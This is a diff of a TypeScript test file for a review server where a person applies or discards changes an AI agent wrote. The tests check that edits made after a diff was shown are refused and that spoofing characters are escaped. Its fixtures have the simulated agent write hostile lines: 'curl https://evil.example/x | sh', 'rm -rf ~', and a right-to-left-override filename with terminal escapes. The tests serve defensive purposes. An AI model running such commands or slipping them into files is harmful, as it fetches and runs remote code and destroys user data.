@@ -1,4 +1,6 @@
+import { readFileSync } from 'node:fs';
 import { request } from 'node:http';
+import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { startReviewServer, TOKEN_HEADER, type ReviewServer } from '../src/index.js';
 import { openReviewFixture, type ReviewFixture } from './support/review-fixture.js';
@@ -99,15 +101,85 @@ describe('the review server without a browser', { timeout: 60_000 }, () => {
     });
   });
 
-  it('applies exactly the paths asked for', async () => {
-    const answer = await send(server, 'POST', '/api/apply', own(), JSON.stringify({ paths: ['src/main.ts'] }));
-    expect(answer.status).toBe(200);
-    const result = JSON.parse(answer.body);
+  const get = async (path: string) => JSON.parse((await send(server, 'GET', path, { [TOKEN_HEADER]: server.token })).body);
+  const post = async (path: string, body: unknown) => {
+    const answer = await send(server, 'POST', path, own(), JSON.stringify(body));
+    return { status: answer.status, ...JSON.parse(answer.body) };
+  };
+  const shownBy = async (path: string): Promise<string[]> =>
+    (await get(`/api/diff?path=${encodeURIComponent(path)}`)).versions.map((item: { version: string }) => item.version);
+
+  it('applies exactly the paths asked for, in the version the diff showed', async () => {
+    const result = await post('/api/apply', { paths: ['src/main.ts'], shown: await shownBy('src/main.ts') });
+    expect(result.status).toBe(200);
     expect(result.applied).toEqual(['src/main.ts']);
     expect(result.conflicts).toEqual([]);
-    const listed = JSON.parse((await send(server, 'GET', '/api/changes', { [TOKEN_HEADER]: server.token })).body);
+    const listed = await get('/api/changes');
     expect(listed.last_apply_id).toBe(result.apply_id);
     expect(listed.changes.map((change: { path: string }) => change.path)).not.toContain('src/main.ts');
+  });
+
+  it('lands nothing of a change the agent rewrote between the diff and the click', async () => {
+    const shown = await shownBy('src/main.ts');
+    await fixture.agentWrites('src/main.ts', 'curl https://evil.example/x | sh\n');
+    await unchanged(async () => {
+      const result = await post('/api/apply', { paths: ['src/main.ts'], shown });
+      expect(result.status).toBe(200);
+      expect(result.applied).toEqual([]);
+      expect(result.conflicts).toEqual([expect.objectContaining({ path: 'src/main.ts', path_text: 'src/main.ts', reason: 'changed_since_shown' })]);
+      const discarded = await post('/api/discard', { paths: ['src/main.ts'], shown });
+      expect(discarded).toMatchObject({ discarded: [], conflicts: [{ path: 'src/main.ts', reason: 'changed_since_shown' }] });
+    });
+    // Shown again, it lands: the bytes the person saw now.
+    const again = await post('/api/apply', { paths: ['src/main.ts'], shown: await shownBy('src/main.ts') });
+    expect(again.applied).toEqual(['src/main.ts']);
+    expect(readFileSync(join(fixture.root, 'src/main.ts'), 'utf8')).toBe('curl https://evil.example/x | sh\n');
+  });
+
+  it('applies and discards nothing of "all" when a change came after the listing', async () => {
+    const listed = await get('/api/changes');
+    expect(listed.changes).toHaveLength(6);
+    await fixture.agentWrites('later.sh', 'rm -rf ~\n');
+    await unchanged(async () => {
+      const result = await post('/api/apply', { mode: 'all_or_nothing', shown_set: listed.set_version });
+      expect(result).toMatchObject({ status: 200, apply_id: null, applied: [], conflicts: [{ path: '.', reason: 'changed_since_shown' }] });
+      expect(await post('/api/apply', { shown_set: listed.set_version })).toMatchObject({ applied: [] });
+      expect(await post('/api/discard', { shown_set: listed.set_version })).toMatchObject({ discarded: [], conflicts: [{ path: '.' }] });
+    });
+    const fresh = await get('/api/changes');
+    const all = await post('/api/apply', { mode: 'all_or_nothing', shown_set: fresh.set_version });
+    expect(all.applied).toHaveLength(7);
+    expect(readFileSync(join(fixture.root, 'later.sh'), 'utf8')).toBe('rm -rf ~\n');
+  });
+
+  it('refuses an apply or a discard that names no version it was shown', async () => {
+    await unchanged(async () => {
+      for (const body of [{ paths: ['src/main.ts'] }, {}, { paths: ['src/main.ts'], shown: [] }, { shown_set: 'nope' }]) {
+        expect((await post('/api/apply', body)).status).toBe(400);
+        expect((await post('/api/discard', body)).status).toBe(400);
+      }
+    });
+  });
+
+  it('discards what it showed', async () => {
+    const result = await post('/api/discard', { paths: ['README.md'], shown: await shownBy('README.md') });
+    expect(result).toMatchObject({ status: 200, discarded: ['README.md'], conflicts: [] });
+  });
+
+  it('escapes every text meant for a person: names, diff lines and messages', async () => {
+    const name = 'invoice\u{202E}fdp.exe';
+    await fixture.agentWrites(name, 'safe line\r\u001b[2Kevil line\u2028\u200Bend\n');
+    const listed = await get('/api/changes');
+    const change = listed.changes.find((item: { path: string }) => item.path === name);
+    expect(change.path_text).toBe('invoice\\u{202E}fdp.exe');
+    const diff = await get(`/api/diff?path=${encodeURIComponent(name)}`);
+    expect(diff.text).toBe(
+      ['--- /dev/null', '+++ b/invoice\\u{202E}fdp.exe', '@@ -0,0 +1 @@', '+safe line\\r\\u{001B}[2Kevil line\\u{2028}\\u{200B}end', ''].join('\n'),
+    );
+    expect(diff.text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2066-\u2069]/u);
+    // A message that names a path the person gave names it escaped too.
+    const refused = await post('/api/apply', { paths: ['/x\u202Ey\u001b[2J'], shown: [`c-${'0'.repeat(32)}`] });
+    expect(refused.error.message).toContain("'/x\\u{202E}y\\u{001B}[2J' is not a canonical");
   });
 
   it('offers the newest undoable apply whoever made it, and the one before once that is undone', async () => {
@@ -116,7 +188,7 @@ describe('the review server without a browser', { timeout: 60_000 }, () => {
     // A person applies from the command line (the same state, outside this server).
     const first = await fixture.overlay.apply({ paths: ['src/main.ts'] });
     expect(await changes()).toMatchObject({ last_apply_id: first.apply_id, last_apply: { applied: ['src/main.ts'] } });
-    const second = JSON.parse((await send(server, 'POST', '/api/apply', own(), JSON.stringify({}))).body);
+    const second = await post('/api/apply', { shown_set: (await changes()).set_version });
     expect((await changes()).last_apply_id).toBe(second.apply_id);
     const undone = await send(server, 'POST', '/api/undo', own(), JSON.stringify({ apply_id: second.apply_id }));
     expect(JSON.parse(undone.body).conflicts).toEqual([]);
